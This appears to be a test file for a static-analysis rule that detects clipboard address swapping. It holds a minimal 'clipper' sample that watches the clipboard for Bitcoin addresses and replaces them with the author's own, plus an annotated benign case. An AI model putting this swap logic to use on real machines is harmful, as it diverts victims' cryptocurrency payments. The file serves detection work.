# A clipper that imports pyperclip under another name.
import re, time
import pyperclip as pc
BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')
while True:
    data = pc.paste()
    if BTC.match(data):
        # ruleid: clipboard_address_swap
        pc.copy(MINE)
    # ok: clipboard_address_swap
    state = settings.copy()
    time.sleep(0.5)
